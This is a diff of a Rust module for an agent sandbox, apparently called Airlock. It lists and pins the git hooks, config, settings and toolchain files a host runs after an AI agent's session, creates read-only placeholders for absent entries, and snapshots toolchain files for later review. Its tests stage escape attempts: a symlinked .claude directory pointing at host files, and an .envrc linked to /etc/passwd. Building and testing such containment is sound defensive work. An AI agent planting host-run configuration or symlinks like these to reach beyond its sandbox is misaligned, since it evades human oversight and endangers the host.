@@ -1,22 +1,64 @@
-//! Repo paths the host runs later (SECURITY §4): which ones exist, which parents must be
-//! pinned, where `gitdir:` pointers lead, and — at session end — quarantining the listed paths
-//! that appeared (or were swapped) while the agent ran.
+//! Repo paths the host runs or reads later (SECURITY §4, §7), as the session starts: which
+//! listed paths exist (and their identity), which parents are pinned so they cannot be renamed
+//! away, the placeholders that make absent top-level paths unusable for the session, and the
+//! content of the editable toolchain files (so their code-running keys can be judged at the
+//! end, in [`super::sweep`]).
 //!
-//! Scanning never follows a symlink inside the repo: a listed path that is a symlink is recorded
-//! with its target and checked again at the end, never bound.
+//! Everything here reads the repo through directory fds ([`crate::fsat`]); a listed path below
+//! a symlinked parent records that parent instead, and nothing is ever looked up through it.
+//! Git dirs come from [`super::gitptr`], already judged: this module follows no pointer.
 
-use std::ffi::OsString;
-use std::fs;
-use std::io;
+use std::ffi::OsStr;
+use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
 use std::path::{Component, Path, PathBuf};
 
-/// Top-level repo entries the host (or the developer's tools) run or read as configuration.
-pub const TOP_LEVEL: &[&str] =
-    &[".airlock.toml", ".envrc", ".vscode", ".idea", ".mcp.json", ".husky"];
-/// Claude Code settings files that are always recorded, present or not (`settings*.json`).
-pub const CLAUDE_SETTINGS: &[&str] = &["settings.json", "settings.local.json"];
-/// How deep `.git/modules/*/modules/*…` is followed.
-const MAX_MODULE_DEPTH: usize = 4;
+use nix::sys::stat::{FileStat, SFlag};
+
+use super::gitptr::{self, GitDir};
+use crate::fsat;
+
+/// Top-level entries the host (or the developer's tools) run or read as configuration, that are
+/// unusable for a session when absent at its start: an empty placeholder the supervisor creates
+/// is bound read-only over the name, and removed afterwards.
+pub const PLACEHOLDERS: &[(&str, Kind)] = &[
+    (".envrc", Kind::File),
+    (".vscode", Kind::Dir),
+    (".idea", Kind::Dir),
+    (".husky", Kind::Dir),
+    (".mcp.json", Kind::File),
+    (".pre-commit-config.yaml", Kind::File),
+    (".devcontainer", Kind::Dir),
+    (".claude/settings.json", Kind::File),
+    (".claude/settings.local.json", Kind::File),
+];
+/// Listed top-level entries without a placeholder: read-only when present, quarantined at the
+/// end when created (a new `.airlock.toml` is untrusted anyway; a `.git` the agent makes is
+/// judged by [`super::sweep`]).
+pub const LISTED_ONLY: &[&str] = &[".airlock.toml"];
+/// Editable toolchain files at the top level whose start content is kept for the end review.
+pub const TOOLCHAIN_FILES: &[&str] = &[
+    "rust-toolchain.toml",
+    "rust-toolchain",
+    ".cargo/config.toml",
+    ".cargo/config",
+    "mise.toml",
+    ".mise.toml",
+    "mise.local.toml",
+    ".mise.local.toml",
+    ".config/mise.toml",
+    ".config/mise/config.toml",
+    ".mise/config.toml",
+    ".tool-versions",
+];
+/// Largest toolchain file kept for the end review (bigger ones are held whole if changed).
+pub const SNAPSHOT_CAP: u64 = 1 << 20;
+
+/// Whether a placeholder is a file or a directory.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Kind {
+    File,
+    Dir,
+}
 
 #[derive(Debug, thiserror::Error)]
 pub enum ProtectError {
@@ -24,18 +66,11 @@ pub enum ProtectError {
     Io {
         path: PathBuf,
         #[source]
-        source: io::Error,
+        source: std::io::Error,
     },
-    #[error(
-        "{path} is a symlink; Airlock cannot protect a repo whose `.git` is a symlink — replace it \
-         with the directory or a `gitdir:` file"
-    )]
-    GitSymlink { path: PathBuf },
-    #[error("{path}: malformed `gitdir:` pointer; expected a line `gitdir: <path>`")]
-    BadGitdir { path: PathBuf },
 }
 
-fn io_err(path: &Path) -> impl FnOnce(io::Error) -> ProtectError + '_ {
+fn io_err(path: &Path) -> impl FnOnce(std::io::Error) -> ProtectError + '_ {
     move |source| ProtectError::Io { path: path.to_path_buf(), source }
 }
 
@@ -48,6 +83,13 @@ pub enum State {
     Absent,
 }
 
+/// `(st_dev, st_ino)`: which inode a name held.
+pub type Identity = (u64, u64);
+
+pub fn identity(st: &FileStat) -> Identity {
+    (st.st_dev, st.st_ino)
+}
+
 /// One protected path: `root` is the host directory it lives in (the repo, or an external
 /// git dir), `rel` the path below it.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -55,12 +97,24 @@ pub struct Listed {
     pub root: PathBuf,
     pub rel: PathBuf,
     pub state: State,
+    /// The inode at start (present paths), so a same-named replacement is noticed.
+    pub id: Option<Identity>,
+    /// Created by the supervisor for this session; removed at its end.
+    pub placeholder: bool,
 }
 
 impl Listed {
     pub fn host_path(&self) -> PathBuf {
         self.root.join(&self.rel)
     }
+}
+
+/// A toolchain file's content at start.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Snapshot {
+    pub rel: PathBuf,
+    /// `None` when it was larger than [`SNAPSHOT_CAP`] or unreadable.
+    pub bytes: Option<Vec<u8>>,
 }
 
 /// The protected-path plan for one session.
@@ -70,61 +124,15 @@ pub struct Protection {
     pub listed: Vec<Listed>,
     /// Directories (host paths) bound onto themselves so they cannot be renamed away.
     pub pinned: Vec<PathBuf>,
-    /// Git directories outside the repo that `gitdir:` pointers lead to (bound read-write at
+    /// Git directories outside the repo that honoured pointers lead to (bound read-write at
     /// their host path, "with the repo's access").
     pub external: Vec<PathBuf>,
-}
-
-fn state_of(path: &Path) -> Result<State, ProtectError> {
-    match fs::symlink_metadata(path) {
-        Ok(meta) if meta.file_type().is_symlink() => {
-            Ok(State::Symlink(fs::read_link(path).map_err(io_err(path))?))
-        }
-        Ok(meta) if meta.is_dir() => Ok(State::Dir),
-        Ok(_) => Ok(State::File),
-        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(State::Absent),
-        // ENOTDIR: a parent is a file; nothing can be planted below it without replacing it.
-        Err(e) if e.raw_os_error() == Some(libc::ENOTDIR) => Ok(State::Absent),
-        Err(source) => Err(ProtectError::Io { path: path.to_path_buf(), source }),
-    }
-}
-
-/// The first component strictly between `root` and `root/rel` that is a symlink (or not a
-/// directory), if any: a path below it must never be looked up through it.
-fn blocked_parent(root: &Path, rel: &Path) -> Option<PathBuf> {
-    let mut cur = root.to_path_buf();
-    let comps: Vec<_> = rel.components().collect();
-    for comp in comps.iter().take(comps.len().saturating_sub(1)) {
-        cur.push(comp);
-        match fs::symlink_metadata(&cur) {
-            Ok(m) if m.is_dir() => {}
-            Ok(_) => return Some(cur),
-            Err(_) => return None,
-        }
-    }
-    None
-}
-
-/// [`state_of`] for `root/rel` without following a symlinked parent: such a path counts as
-/// the parent symlink itself.
-fn state_beneath(root: &Path, rel: &Path) -> Result<(PathBuf, State), ProtectError> {
-    match blocked_parent(root, rel) {
-        Some(parent) => Ok((parent.clone(), state_of(&parent)?)),
-        None => Ok((root.join(rel), state_of(&root.join(rel))?)),
-    }
-}
-
-/// Reads a `gitdir: <path>` file, resolving a relative path against `base`.
-fn read_gitdir_pointer(file: &Path, base: &Path) -> Result<PathBuf, ProtectError> {
-    let text = fs::read_to_string(file).map_err(io_err(file))?;
-    let target = text
-        .lines()
-        .next()
-        .and_then(|l| l.strip_prefix("gitdir:"))
-        .map(str::trim)
-        .filter(|t| !t.is_empty())
-        .ok_or_else(|| ProtectError::BadGitdir { path: file.to_path_buf() })?;
-    Ok(normalize(&base.join(target)))
+    /// Every git dir the session protects (for the end sweep).
+    pub git_dirs: Vec<GitDir>,
+    /// Toolchain files present at start.
+    pub snapshots: Vec<Snapshot>,
+    /// Placeholder parents the supervisor created (removed at the end when empty).
+    pub created_dirs: Vec<PathBuf>,
 }
 
 /// Lexical normalization (`a/b/../c` → `a/c`) without touching the filesystem.
@@ -142,18 +150,67 @@ pub fn normalize(path: &Path) -> PathBuf {
     out
 }
 
+fn state_of(dir: BorrowedFd<'_>, name: &Path) -> std::io::Result<(State, Option<Identity>)> {
+    let Some(st) = fsat::lstat_at(dir, name)? else { return Ok((State::Absent, None)) };
+    let state = match fsat::kind(&st) {
+        SFlag::S_IFLNK => State::Symlink(nix::fcntl::readlinkat(dir, name)?.into()),
+        SFlag::S_IFDIR => State::Dir,
+        _ => State::File,
+    };
+    Ok((state, Some(identity(&st))))
+}
+
+/// The state of `rel` below `root` (open as `root_fd`), never through a symlinked or
+/// non-directory parent: such a path is reported as that parent (its relative path and state).
+pub fn state_beneath(
+    root_fd: BorrowedFd<'_>,
+    rel: &Path,
+) -> std::io::Result<(PathBuf, State, Option<Identity>)> {
+    let comps: Vec<&OsStr> = rel
+        .components()
+        .filter_map(|c| match c {
+            Component::Normal(n) => Some(n),
+            _ => None,
+        })
+        .collect();
+    let mut dir: OwnedFd = fsat::open_dir(root_fd, Path::new(""))?;
+    let mut at = PathBuf::new();
+    for (i, name) in comps.iter().enumerate() {
+        at.push(name);
+        let (state, id) = state_of(dir.as_fd(), Path::new(name))?;
+        let last = i + 1 == comps.len();
+        if last {
+            return Ok((at, state, id));
+        }
+        match state {
+            State::Dir => dir = fsat::open_dir(dir.as_fd(), Path::new(name))?,
+            State::Absent => return Ok((rel.to_path_buf(), State::Absent, None)),
+            other => return Ok((at, other, id)),
+        }
+    }
+    Ok((at, State::Dir, None))
+}
+
 struct Scan {
     prot: Protection,
 }
 
 impl Scan {
-    fn list(&mut self, root: &Path, rel: impl Into<PathBuf>) -> Result<State, ProtectError> {
-        let rel = rel.into();
-        let (path, state) = state_beneath(root, &rel)?;
-        // Under a symlinked parent the parent itself is what is recorded (and checked later).
-        let rel = path.strip_prefix(root).map(Path::to_path_buf).unwrap_or(rel);
+    fn list(
+        &mut self,
+        root: &Path,
+        root_fd: BorrowedFd<'_>,
+        rel: &Path,
+    ) -> Result<State, ProtectError> {
+        let (rel, state, id) = state_beneath(root_fd, rel).map_err(io_err(&root.join(rel)))?;
         if !self.prot.listed.iter().any(|l| l.root == root && l.rel == rel) {
-            self.prot.listed.push(Listed { root: root.to_path_buf(), rel, state: state.clone() });
+            self.prot.listed.push(Listed {
+                root: root.to_path_buf(),
+                rel,
+                state: state.clone(),
+                id,
+                placeholder: false,
+            });
         }
         Ok(state)
     }
@@ -164,89 +221,86 @@ impl Scan {
         }
     }
 
-    /// hooks + config of one git dir (`root/rel`), its nested modules, and its commondir.
-    fn git_dir(&mut self, root: &Path, rel: &Path, depth: usize) -> Result<(), ProtectError> {
-        let dir = root.join(rel);
-        if state_of(&dir)? != State::Dir {
-            return Ok(());
-        }
+    /// hooks, config and pointer files of one git dir, its worktree admin entries, and the
+    /// parents that must stay put.
+    fn git_dir(&mut self, gd: &GitDir) -> Result<(), ProtectError> {
+        let root_fd = fsat::open_root(&gd.root).map_err(io_err(&gd.root))?;
+        let dir = gd.root.join(&gd.rel);
         self.pin(dir.clone());
-        self.list(root, rel.join("hooks"))?;
-        self.list(root, rel.join("config"))?;
-        let modules = dir.join("modules");
-        if depth < MAX_MODULE_DEPTH && state_of(&modules)? == State::Dir {
-            self.pin(modules.clone());
-            let mut names: Vec<OsString> = fs::read_dir(&modules)
-                .map_err(io_err(&modules))?
-                .filter_map(Result::ok)
-                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
-                .map(|e| e.file_name())
-                .collect();
-            names.sort();
-            for name in names {
-                self.git_dir(root, &rel.join("modules").join(name), depth + 1)?;
+        for name in
+            ["hooks", "config"].into_iter().chain(gitptr::GIT_DIR_POINTERS.iter().map(|(n, _)| *n))
+        {
+            let rel = gd.rel.join(name);
+            self.list(&gd.root, root_fd.as_fd(), &rel)?;
+            // Every parent between the git dir and the listed path stays put.
+            let mut parent = rel.parent();
+            while let Some(p) = parent {
+                if p == gd.rel || p.as_os_str().is_empty() {
+                    break;
+                }
+                if matches!(state_beneath(root_fd.as_fd(), p), Ok((_, State::Dir, _))) {
+                    self.pin(gd.root.join(p));
+                }
+                parent = p.parent();
             }
         }
-        let commondir = dir.join("commondir");
-        if state_of(&commondir)? == State::File {
-            let text = fs::read_to_string(&commondir).map_err(io_err(&commondir))?;
-            let common = normalize(&dir.join(text.trim()));
-            self.external_git_dir(&common, depth + 1)?;
+        if let Ok(worktrees) = fsat::open_dir(root_fd.as_fd(), &gd.rel.join("worktrees")) {
+            self.pin(dir.join("worktrees"));
+            for name in fsat::list(worktrees.as_fd()).unwrap_or_default() {
+                let admin = gd.rel.join("worktrees").join(&name);
+                if matches!(state_beneath(root_fd.as_fd(), &admin), Ok((_, State::Dir, _))) {
+                    self.pin(gd.root.join(&admin));
+                    for file in ["commondir", "gitdir", "config.worktree"] {
+                        self.list(&gd.root, root_fd.as_fd(), &admin.join(file))?;
+                    }
+                }
+            }
+        }
+        if matches!(state_beneath(root_fd.as_fd(), &gd.rel.join("modules")), Ok((_, State::Dir, _)))
+        {
+            self.pin(dir.join("modules"));
         }
         Ok(())
     }
-
-    /// A git dir outside the repo (or the commondir of a worktree).
-    fn external_git_dir(&mut self, dir: &Path, depth: usize) -> Result<(), ProtectError> {
-        if depth > MAX_MODULE_DEPTH || state_of(dir)? != State::Dir {
-            return Ok(());
-        }
-        if !self.prot.external.iter().any(|e| dir.starts_with(e)) {
-            self.prot.external.push(dir.to_path_buf());
-        }
-        self.git_dir(dir, Path::new(""), depth)
-    }
 }
 
-/// Scans `repo` (a canonical host path) for the protected paths of SECURITY §4.
-pub fn scan(repo: &Path) -> Result<Protection, ProtectError> {
+/// Scans `repo` (a canonical host path) for the protected paths, given the git dirs its
+/// pointers were judged to lead to.
+pub fn scan(repo: &Path, found: &gitptr::Found) -> Result<Protection, ProtectError> {
     let mut s = Scan { prot: Protection::default() };
-    let dot_git = repo.join(".git");
-    match state_of(&dot_git)? {
-        State::Dir => s.git_dir(repo, Path::new(".git"), 0)?,
-        State::File => {
-            let target = read_gitdir_pointer(&dot_git, repo)?;
-            // The pointer file itself is host-run configuration too: pin it read-only.
-            s.list(repo, ".git")?;
-            if target.starts_with(repo) {
-                if let Ok(rel) = target.strip_prefix(repo) {
-                    s.git_dir(repo, rel, 0)?;
-                }
-            } else {
-                s.external_git_dir(&target, 0)?;
-            }
-        }
-        State::Symlink(_) => return Err(ProtectError::GitSymlink { path: dot_git }),
-        State::Absent => {}
+    s.prot.external = found.external.clone();
+    s.prot.git_dirs = found.git_dirs.clone();
+    for gd in &found.git_dirs {
+        s.git_dir(gd)?;
     }
-    for name in TOP_LEVEL {
-        s.list(repo, *name)?;
+    let repo_fd = fsat::open_root(repo).map_err(io_err(repo))?;
+    // The top-level `.git` itself: a file is a pointer (read-only for the session), a directory
+    // is pinned above (never bound read-only: git writes in it), and an absent one is judged at
+    // the end.
+    if !matches!(state_beneath(repo_fd.as_fd(), Path::new(".git")), Ok((_, State::Dir, _))) {
+        s.list(repo, repo_fd.as_fd(), Path::new(".git"))?;
     }
-    let claude = repo.join(".claude");
-    let claude_state = state_of(&claude)?;
-    let mut settings: Vec<String> = CLAUDE_SETTINGS.iter().map(|s| s.to_string()).collect();
-    if claude_state == State::Dir {
-        s.pin(claude.clone());
-        for entry in fs::read_dir(&claude).map_err(io_err(&claude))?.filter_map(Result::ok) {
-            let name = entry.file_name().to_string_lossy().into_owned();
-            if is_claude_settings(&name) && !settings.contains(&name) {
-                settings.push(name);
+    for name in LISTED_ONLY.iter().copied().chain(PLACEHOLDERS.iter().map(|(n, _)| *n)) {
+        s.list(repo, repo_fd.as_fd(), Path::new(name))?;
+    }
+    let claude = Path::new(".claude");
+    if let Ok((_, State::Dir, _)) = state_beneath(repo_fd.as_fd(), claude) {
+        s.pin(repo.join(claude));
+        let dir = fsat::open_dir(repo_fd.as_fd(), claude).map_err(|e| io_err(repo)(e.into()))?;
+        for name in fsat::list(dir.as_fd()).map_err(io_err(&repo.join(claude)))? {
+            if is_claude_settings(&name.to_string_lossy()) {
+                s.list(repo, repo_fd.as_fd(), &claude.join(name))?;
             }
         }
     }
-    settings.sort();
-    for name in settings {
-        s.list(repo, Path::new(".claude").join(name))?;
+    for rel in TOOLCHAIN_FILES {
+        if let Ok(Some((bytes, _))) =
+            fsat::read_capped(repo_fd.as_fd(), Path::new(rel), SNAPSHOT_CAP)
+        {
+            s.prot.snapshots.push(Snapshot { rel: PathBuf::from(rel), bytes: Some(bytes) });
+        } else if matches!(fsat::lstat_beneath(repo_fd.as_fd(), Path::new(rel)), Ok(Some(_))) {
+            s.prot.snapshots.push(Snapshot { rel: PathBuf::from(rel), bytes: None });
+        }
     }
     Ok(s.prot)
 }
@@ -256,100 +310,114 @@ pub fn is_claude_settings(name: &str) -> bool {
     name.starts_with("settings") && name.ends_with(".json")
 }
 
-/// A path moved out of the repo at session end.
-#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
-pub struct Quarantined {
-    /// Host path where it was found.
-    pub path: PathBuf,
-    /// Where it is now.
-    pub moved_to: PathBuf,
-    /// `created` (absent at start) or `replaced` (a symlink that changed).
-    pub why: &'static str,
+/// Creates the placeholders for every absent [`PLACEHOLDERS`] entry (empty file or directory
+/// on the host, bound read-only for the session) and marks them listed. An entry that cannot be
+/// made (a read-only repo, a symlinked parent) stays `Absent` and is judged at the end instead;
+/// the returned warnings say so.
+pub fn make_placeholders(prot: &mut Protection, repo: &Path) -> Vec<String> {
+    let mut warnings = Vec::new();
+    let Ok(repo_fd) = fsat::open_root(repo) else {
+        return vec![format!("{}: cannot open the repo to make placeholders", repo.display())];
+    };
+    for (name, kind) in PLACEHOLDERS {
+        let rel = Path::new(name);
+        let Some(item) = prot
+            .listed
+            .iter_mut()
+            .find(|l| l.root == repo && l.rel == rel && l.state == State::Absent)
+        else {
+            continue;
+        };
+        match make_one(repo_fd.as_fd(), rel, *kind, &mut prot.created_dirs, repo) {
+            Ok((state, id)) => {
+                item.state = state;
+                item.id = Some(id);
+                item.placeholder = true;
+            }
+            Err(e) => warnings.push(format!(
+                "{} could not be made unusable for the session ({e}); it is checked at the end",
+                repo.join(rel).display()
+            )),
+        }
+    }
+    if prot.created_dirs.iter().any(|d| d == &repo.join(".claude")) {
+        prot.pinned.push(repo.join(".claude"));
+    }
+    warnings
 }
 
-/// Compares the listed paths with their state at start and moves every path that appeared
-/// (or a symlink that changed) into `dest` (`~/.airlock/quarantine/<session>/`).
-pub fn quarantine(prot: &Protection, repo: &Path, dest: &Path) -> io::Result<Vec<Quarantined>> {
-    let mut moved = Vec::new();
-    let mut candidates: Vec<(PathBuf, &'static str)> = Vec::new();
-    for item in &prot.listed {
-        // A parent the agent replaced with a symlink is what gets quarantined, never a path
-        // looked up through it.
-        let (path, now) = state_beneath(&item.root, &item.rel).map_err(io::Error::other)?;
-        if path != item.host_path() {
-            if !candidates.iter().any(|(p, _)| *p == path) {
-                candidates.push((path, "replaced"));
+fn make_one(
+    repo_fd: BorrowedFd<'_>,
+    rel: &Path,
+    kind: Kind,
+    created_dirs: &mut Vec<PathBuf>,
+    repo: &Path,
+) -> std::io::Result<(State, Identity)> {
+    let (parent, name) = fsat::split(rel);
+    let parent_fd = match parent {
+        None => fsat::open_dir(repo_fd, Path::new(""))?,
+        Some(p) => match fsat::open_dir(repo_fd, p) {
+            Ok(fd) => fd,
+            Err(nix::errno::Errno::ENOENT) => {
+                let fd = fsat::mkdir_open(repo_fd, p.as_os_str(), 0o755)?;
+                created_dirs.push(repo.join(p));
+                fd
             }
+            Err(e) => return Err(e.into()),
+        },
+    };
+    match kind {
+        Kind::Dir => nix::sys::stat::mkdirat(
+            parent_fd.as_fd(),
+            name,
+            nix::sys::stat::Mode::from_bits_truncate(0o755),
+        )?,
+        Kind::File => {
+            let fd = nix::fcntl::openat2(
+                parent_fd.as_fd(),
+                name,
+                fsat::how(
+                    nix::fcntl::OFlag::O_WRONLY
+                        | nix::fcntl::OFlag::O_CREAT
+                        | nix::fcntl::OFlag::O_EXCL,
+                    0o644,
+                ),
+            )?;
+            drop(fd);
+        }
+    }
+    let st = fsat::lstat_at(parent_fd.as_fd(), name)?
+        .ok_or_else(|| std::io::Error::other("placeholder vanished"))?;
+    let state = if kind == Kind::Dir { State::Dir } else { State::File };
+    Ok((state, identity(&st)))
+}
+
+/// Removes this session's placeholders that are still exactly what was made (same inode,
+/// empty), and created parents left empty. Anything else is left alone for the sweep.
+pub fn remove_placeholders(prot: &Protection, repo: &Path) {
+    let Ok(repo_fd) = fsat::open_root(repo) else { return };
+    for item in prot.listed.iter().filter(|l| l.placeholder && l.root == repo) {
+        let (parent, name) = fsat::split(&item.rel);
+        let Ok(parent_fd) = fsat::open_dir(repo_fd.as_fd(), parent.unwrap_or(Path::new(""))) else {
+            continue;
+        };
+        let Ok(Some(st)) = fsat::lstat_at(parent_fd.as_fd(), name) else { continue };
+        if Some(identity(&st)) != item.id {
             continue;
         }
-        let why = match (&item.state, &now) {
-            (State::Absent, State::Absent) => continue,
-            (State::Absent, _) => "created",
-            (State::Symlink(a), State::Symlink(b)) if a == b => continue,
-            (State::Symlink(_), _) => "replaced",
+        let flag = match item.state {
+            State::Dir => nix::unistd::UnlinkatFlags::RemoveDir,
+            _ if st.st_size == 0 => nix::unistd::UnlinkatFlags::NoRemoveDir,
             _ => continue,
         };
-        candidates.push((item.host_path(), why));
+        // rmdir fails on a non-empty directory: then it is not ours any more.
+        let _ = nix::unistd::unlinkat(parent_fd.as_fd(), name, flag);
     }
-    // New `.claude/settings*.json` names that did not exist at start.
-    let claude = repo.join(".claude");
-    if let Ok(State::Dir) = state_of(&claude) {
-        for entry in fs::read_dir(&claude)?.filter_map(Result::ok) {
-            let name = entry.file_name().to_string_lossy().into_owned();
-            let path = claude.join(&name);
-            if is_claude_settings(&name) && !prot.listed.iter().any(|l| l.host_path() == path) {
-                candidates.push((path, "created"));
-            }
+    for dir in prot.created_dirs.iter().rev() {
+        if let Ok(rel) = dir.strip_prefix(repo) {
+            let _ =
+                nix::unistd::unlinkat(repo_fd.as_fd(), rel, nix::unistd::UnlinkatFlags::RemoveDir);
         }
-    }
-    for (path, why) in candidates {
-        let rel = path.strip_prefix("/").unwrap_or(&path);
-        let target = dest.join(rel);
-        if let Some(parent) = target.parent() {
-            fs::create_dir_all(parent)?;
-        }
-        move_no_follow(&path, &target)?;
-        moved.push(Quarantined { path, moved_to: target, why });
-    }
-    Ok(moved)
-}
-
-/// rename(2), or across filesystems a copy that never follows symlinks, then removal.
-fn move_no_follow(from: &Path, to: &Path) -> io::Result<()> {
-    match fs::rename(from, to) {
-        Ok(()) => Ok(()),
-        Err(e) if e.raw_os_error() == Some(libc::EXDEV) => {
-            copy_no_follow(from, to, 0)?;
-            if fs::symlink_metadata(from)?.is_dir() {
-                fs::remove_dir_all(from)
-            } else {
-                fs::remove_file(from)
-            }
-        }
-        Err(e) => Err(e),
-    }
-}
-
-/// Files above this size are not copied into quarantine (they are still removed).
-const MAX_QUARANTINE_FILE: u64 = 64 << 20;
-
-fn copy_no_follow(from: &Path, to: &Path, depth: usize) -> io::Result<()> {
-    let meta = fs::symlink_metadata(from)?;
-    if meta.file_type().is_symlink() {
-        std::os::unix::fs::symlink(fs::read_link(from)?, to)
-    } else if meta.is_dir() {
-        if depth > 32 {
-            return Ok(());
-        }
-        fs::create_dir_all(to)?;
-        for entry in fs::read_dir(from)?.filter_map(Result::ok) {
-            copy_no_follow(&entry.path(), &to.join(entry.file_name()), depth + 1)?;
-        }
-        Ok(())
-    } else if meta.is_file() && meta.len() <= MAX_QUARANTINE_FILE {
-        fs::copy(from, to).map(|_| ())
-    } else {
-        fs::write(to.with_extension("skipped"), format!("not copied: {} bytes\n", meta.len()))
     }
 }
 
@@ -357,80 +425,92 @@ fn copy_no_follow(from: &Path, to: &Path, depth: usize) -> io::Result<()> {
 #[allow(clippy::unwrap_used, clippy::expect_used)]
 mod tests {
     use super::*;
+    use crate::hostpath::HostPathRules;
+    use std::fs;
+
+    fn rules(root: &Path) -> HostPathRules {
+        HostPathRules::new(
+            &root.join("home"),
+            &root.join("home/.airlock"),
+            &root.join("s"),
+            None,
+            &[],
+        )
+    }
+
+    fn scan_repo(repo: &Path) -> Protection {
+        let root = repo.parent().unwrap();
+        let found = gitptr::discover(repo, &rules(root)).unwrap();
+        scan(repo, &found).unwrap()
+    }
 
     fn states(p: &Protection) -> Vec<(String, State)> {
         p.listed.iter().map(|l| (l.rel.display().to_string(), l.state.clone())).collect()
     }
 
     #[test]
-    fn scans_git_dir_modules_and_top_level() {
+    fn scans_git_dir_worktree_entries_and_top_level() {
         let tmp = tempfile::tempdir().unwrap();
-        let repo = tmp.path();
+        let repo = fs::canonicalize(tmp.path()).unwrap().join("r");
         fs::create_dir_all(repo.join(".git/hooks")).unwrap();
+        fs::create_dir_all(repo.join(".git/objects/info")).unwrap();
+        fs::create_dir_all(repo.join(".git/worktrees/w")).unwrap();
+        fs::write(repo.join(".git/worktrees/w/commondir"), "../..").unwrap();
         fs::write(repo.join(".git/config"), "").unwrap();
         fs::create_dir_all(repo.join(".git/modules/sub/hooks")).unwrap();
         fs::write(repo.join(".airlock.toml"), "").unwrap();
         fs::create_dir_all(repo.join(".claude")).unwrap();
         fs::write(repo.join(".claude/settings.x.json"), "{}").unwrap();
+        fs::write(repo.join("rust-toolchain.toml"), "[toolchain]\nchannel = \"stable\"\n").unwrap();
         std::os::unix::fs::symlink("/etc/passwd", repo.join(".envrc")).unwrap();
-        let p = scan(repo).unwrap();
+        let p = scan_repo(&repo);
         let s = states(&p);
-        assert!(s.contains(&(".git/hooks".into(), State::Dir)));
-        assert!(s.contains(&(".git/config".into(), State::File)));
-        assert!(s.contains(&(".git/modules/sub/hooks".into(), State::Dir)));
-        assert!(s.contains(&(".git/modules/sub/config".into(), State::Absent)));
-        assert!(s.contains(&(".airlock.toml".into(), State::File)));
-        assert!(s.contains(&(".envrc".into(), State::Symlink("/etc/passwd".into()))));
-        assert!(s.contains(&(".mcp.json".into(), State::Absent)));
-        assert!(s.contains(&(".claude/settings.json".into(), State::Absent)));
-        assert!(s.contains(&(".claude/settings.x.json".into(), State::File)));
-        assert!(p.pinned.contains(&repo.join(".git")));
-        assert!(p.pinned.contains(&repo.join(".git/modules/sub")));
-        assert!(p.pinned.contains(&repo.join(".claude")));
+        for (rel, st) in [
+            (".git/hooks", State::Dir),
+            (".git/config", State::File),
+            (".git/commondir", State::Absent),
+            (".git/objects/info/alternates", State::Absent),
+            (".git/config.worktree", State::Absent),
+            (".git/worktrees/w/commondir", State::File),
+            (".git/worktrees/w/gitdir", State::Absent),
+            (".git/modules/sub/hooks", State::Dir),
+            (".git/modules/sub/config", State::Absent),
+            (".airlock.toml", State::File),
+            (".envrc", State::Symlink("/etc/passwd".into())),
+            (".mcp.json", State::Absent),
+            (".devcontainer", State::Absent),
+            (".claude/settings.json", State::Absent),
+            (".claude/settings.x.json", State::File),
+        ] {
+            assert!(s.contains(&(rel.into(), st.clone())), "{rel} {st:?} in {s:?}");
+        }
+        for pin in [
+            ".git",
+            ".git/objects",
+            ".git/objects/info",
+            ".git/worktrees",
+            ".git/worktrees/w",
+            ".git/modules",
+            ".git/modules/sub",
+            ".claude",
+        ] {
+            assert!(p.pinned.contains(&repo.join(pin)), "{pin} in {:?}", p.pinned);
+        }
+        assert_eq!(p.snapshots.len(), 1);
         assert!(p.external.is_empty());
     }
 
     #[test]
-    fn worktree_pointer_leads_to_external_gitdir_and_commondir() {
+    fn a_symlinked_parent_is_recorded_instead_of_looked_through() {
         let tmp = tempfile::tempdir().unwrap();
-        let main = tmp.path().join("main");
-        fs::create_dir_all(main.join(".git/hooks")).unwrap();
-        fs::create_dir_all(main.join(".git/worktrees/wt")).unwrap();
-        fs::write(main.join(".git/worktrees/wt/commondir"), "../..\n").unwrap();
-        let wt = tmp.path().join("wt");
-        fs::create_dir_all(&wt).unwrap();
-        fs::write(
-            wt.join(".git"),
-            format!("gitdir: {}\n", main.join(".git/worktrees/wt").display()),
-        )
-        .unwrap();
-        let p = scan(&wt).unwrap();
-        assert!(p.external.contains(&main.join(".git/worktrees/wt")));
-        assert!(p.external.contains(&main.join(".git")));
-        assert!(p.listed.iter().any(|l| l.host_path() == main.join(".git/hooks")));
-        assert!(p.listed.iter().any(|l| l.host_path() == main.join(".git/config")));
-        assert!(p.listed.iter().any(|l| l.rel == Path::new(".git") && l.state == State::File));
-    }
-
-    #[test]
-    fn a_parent_swapped_for_a_symlink_is_quarantined_without_following_it() {
-        let tmp = tempfile::tempdir().unwrap();
-        let repo = tmp.path().join("r");
+        let root = fs::canonicalize(tmp.path()).unwrap();
+        let repo = root.join("r");
+        let outside = root.join("host-config");
         fs::create_dir_all(&repo).unwrap();
-        let outside = tmp.path().join("host-config");
         fs::create_dir_all(&outside).unwrap();
-        fs::write(outside.join("settings.json"), "host file").unwrap();
-        let p = scan(&repo).unwrap();
-        // The agent points `.claude` at a host directory holding a `settings.json`.
+        fs::write(outside.join("settings.json"), "host").unwrap();
         std::os::unix::fs::symlink(&outside, repo.join(".claude")).unwrap();
-        let moved = quarantine(&p, &repo, &tmp.path().join("q")).unwrap();
-        assert_eq!(moved.len(), 1, "{moved:?}");
-        assert_eq!(moved[0].path, repo.join(".claude"));
-        assert_eq!(fs::read_to_string(outside.join("settings.json")).unwrap(), "host file");
-        assert!(fs::symlink_metadata(repo.join(".claude")).is_err());
-        // A repo that starts with a symlinked `.claude` records the link, not paths through it.
-        std::os::unix::fs::symlink(&outside, repo.join(".claude")).unwrap();
-        let p = scan(&repo).unwrap();
+        let p = scan_repo(&repo);
         assert!(
             p.listed
                 .iter()
@@ -439,43 +519,32 @@ mod tests {
         assert!(
             !p.listed.iter().any(|l| l.rel.starts_with(".claude") && l.rel != Path::new(".claude"))
         );
-        assert!(quarantine(&p, &repo, &tmp.path().join("q2")).unwrap().is_empty());
     }
 
     #[test]
-    fn git_symlink_is_refused() {
+    fn placeholders_are_made_for_absent_entries_and_removed_only_if_untouched() {
         let tmp = tempfile::tempdir().unwrap();
-        std::os::unix::fs::symlink("/", tmp.path().join(".git")).unwrap();
